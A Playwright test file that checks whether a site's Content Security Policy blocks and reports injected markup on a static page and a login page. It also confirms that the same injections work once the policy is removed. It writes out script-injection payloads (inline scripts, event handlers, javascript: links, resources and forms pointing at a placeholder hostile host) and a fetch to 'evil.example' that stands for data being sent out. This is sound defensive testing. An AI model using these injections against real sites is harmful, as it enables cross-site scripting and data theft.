import type { Page } from '@playwright/test'
import { reducedMotion } from './support/inspect.ts'
import { expect, test } from './support/journey.ts'
import { holes, hostileHost, payloads } from './support/payloads.ts'

declare global {
  var noteRefusal: (directive: string) => void
}

/** Answers requests to other hosts with nothing and collects them. */
async function collectForeignRequests(page: Page): Promise<string[]> {
  const asked: string[] = []
  await page.context().route(`http://${hostileHost}/**`, route => {
    asked.push(route.request().url())
    // A 204 keeps a form submission from navigating.
    return route.fulfill(/\/form\b/.test(route.request().url()) ? { status: 204 } : { body: '' })
  })
  return asked
}

/** Serves `path` with a hole in its document. The other headers stay; the policy stays only if `kept`. */
async function open(page: Page, path: string, spoil: (document: string) => string, kept: boolean): Promise<void> {
  await page.route(path, async route => {
    const answer = await route.fetch()
    const { 'content-security-policy': policy = '', ...others } = answer.headers()
    expect(policy).toContain("default-src 'none'")
    for (const spoilt of ['content-encoding', 'content-length', 'etag']) delete others[spoilt]
    const headers = kept ? { ...others, 'content-security-policy': policy } : others
    await route.fulfill({ status: answer.status(), headers, body: spoil(await answer.text()) })
  })
  await page.goto(path)
}

/** Collects the directives of violations reported by the browser. */
async function collectViolations(page: Page): Promise<string[]> {
  const refused: string[] = []
  await page.exposeFunction('noteRefusal', (directive: string) => refused.push(directive))
  await page.addInitScript(() =>
    addEventListener('securitypolicyviolation', event => globalThis.noteRefusal(event.effectiveDirective)),
  )
  return refused
}

const isBroken = (page: Page) => page.evaluate(() => 'broken' in globalThis)

const act = (page: Page) =>
  page.evaluate(() => {
    const twice = document.querySelector('#twice')
    if (twice) {
      twice.innerHTML = twice.getAttribute('title') ?? ''
      // biome-ignore lint/correctness/noSelfAssign: what was read as markup is written as markup again
      twice.innerHTML = twice.innerHTML
    }
    document.querySelector('#press')?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  })

const biting = payloads.flatMap(([hole, text]) => (hole ? [{ hole, text }] : []))

test('every payload works in an unsafe page', { tag: '@thorough' }, async ({ open: openPage }) => {
  test.slow()
  expect(new Set(payloads.map(([, text]) => text)).size).toBe(payloads.length)
  expect(biting.length).toBeGreaterThanOrEqual(60)
  const tame: string[] = []
  const first = await openPage(reducedMotion)
  const context = first.context()
  const asked = await collectForeignRequests(first)
  let document = ''
  await context.route('**/terms', route => route.fulfill({ contentType: 'text/html; charset=utf-8', body: document }))
  for (const { hole, text } of biting) {
    document = `<!doctype html><body>${holes[hole](text)}`
    asked.length = 0
    // Some payloads navigate, so each gets its own page.
    const page = await context.newPage()
    await page.goto('/terms')
    await act(page).catch(() => {})
    const did = async () => asked.length > 0 || (await isBroken(page).catch(() => false))
    await expect
      .poll(did, { timeout: 3000, intervals: [10, 20, 50, 100] })
      .toBe(true)
      .catch(() => tame.push(text))
    await page.close()
  }
  expect(tame).toEqual([])
})

test('with our policy the browser blocks every payload and reports it', async ({ open: openPage }) => {
  test.slow()
  const page = await openPage(reducedMotion)
  const asked = await collectForeignRequests(page)
  const refused = await collectViolations(page)
  let spoilt = ''
  await open(page, '/terms', () => spoilt, true)
  const silent: string[] = []
  const did: string[] = []
  for (const { hole, text } of biting) {
    spoilt = `<!doctype html><body>${holes[hole](text)}`
    refused.length = 0
    asked.length = 0
    await page.goto('/terms')
    await act(page)
    await expect
      .poll(() => refused.length, { timeout: 3000, intervals: [10, 20, 50, 100] })
      .toBeGreaterThan(0)
      .catch(() => silent.push(text))
    if (asked.length > 0 || (await isBroken(page))) did.push(text)
  }
  expect(did).toEqual([])
  expect(silent).toEqual([])
})

/** Covers every directive that a page could violate. */
const inDocument = `
  <script>broken = 'a script in the page'</script>
  <script src="http://${hostileHost}/script.js"></script>
  <img src="/nothing.png" onerror="broken = 'a handler'">
  <img src="http://${hostileHost}/picture.png">
  <p style="background: url(http://${hostileHost}/behind.png)">x</p>
  <link rel="stylesheet" href="http://${hostileHost}/sheet.css">
  <iframe src="http://${hostileHost}/frame"></iframe>
  <object data="http://${hostileHost}/object"></object>
  <video src="http://${hostileHost}/film"></video>
  <base href="http://${hostileHost}/">`
const atRunTime = [
  ['script-src-elem', `<a href="javascript:void(broken='a link')">go</a>`],
  ['script-src-attr', `<button onclick="broken='a press'">go</button>`],
  ['form-action', `<form action="http://${hostileHost}/form"><button>go</button></form>`],
  ['connect-src', `<button data-asks>go</button>`],
] as const

const press = (page: Page, markup: string) =>
  page.evaluate(markup => {
    document.body.insertAdjacentHTML('beforeend', `<div id="hole">${markup}</div>`)
    const target = document.querySelector<HTMLElement>('#hole a, #hole button')
    // Stands for our own code being tricked into sending data somewhere.
    if (target?.hasAttribute('data-asks')) void fetch('http://evil.example/said').catch(() => {})
    else target?.click()
    document.querySelector('#hole')?.remove()
  }, markup)
const intoDocument = (document: string) => document.replace('</body>', () => `${inDocument}</body>`)

for (const [kind, path, heading] of [
  ['a static page', '/terms', 'Terms of Service'],
  ['a page of the app', '/login', 'Sign in'],
] as const) {
  test(`${kind} with holes is protected by the policy alone`, async ({ open: openPage }) => {
    const page = await openPage(reducedMotion)
    const asked = await collectForeignRequests(page)
    const refused = await collectViolations(page)
    await open(page, path, intoDocument, true)
    const expected = ['base-uri', 'frame-src', 'img-src', 'media-src', 'object-src']
    const all = [...expected, 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']
    await expect.poll(() => [...new Set(refused)].sort()).toEqual(all)
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible()
    for (const [directive, markup] of atRunTime) {
      refused.length = 0
      await press(page, markup)
      // The browser reports base-uri once per resolved address.
      const others = () => refused.filter(each => each !== 'base-uri')
      await expect.poll(others, { message: markup }).toEqual([directive])
    }
    expect(await isBroken(page)).toBe(false)
    expect(asked).toEqual([])
  })

  test(`${kind} with the same holes is exploitable without a policy`, { tag: '@thorough' }, async ({
    open: openPage,
  }) => {
    const page = await openPage(reducedMotion)
    const asked = await collectForeignRequests(page)
    await open(page, path, intoDocument, false)
    const broken = () => page.evaluate(() => (globalThis as { broken?: string }).broken)
    const names = () => [...new Set(asked.map(address => new URL(address).pathname.slice(1)))]
    const wanted = ['behind.png', 'film', 'frame', 'object', 'picture.png', 'script.js', 'sheet.css']
    await expect.poll(names).toEqual(expect.arrayContaining(wanted))
    expect(await broken()).toMatch(/^a (script|handler)/)
    for (const [directive, markup] of atRunTime) {
      await press(page, markup)
      if (directive.startsWith('script-src')) await expect.poll(broken).toBe(/'(.*)'/.exec(markup)?.[1])
      else await expect.poll(names).toContain(directive === 'form-action' ? 'form' : 'said')
    }
  })
}
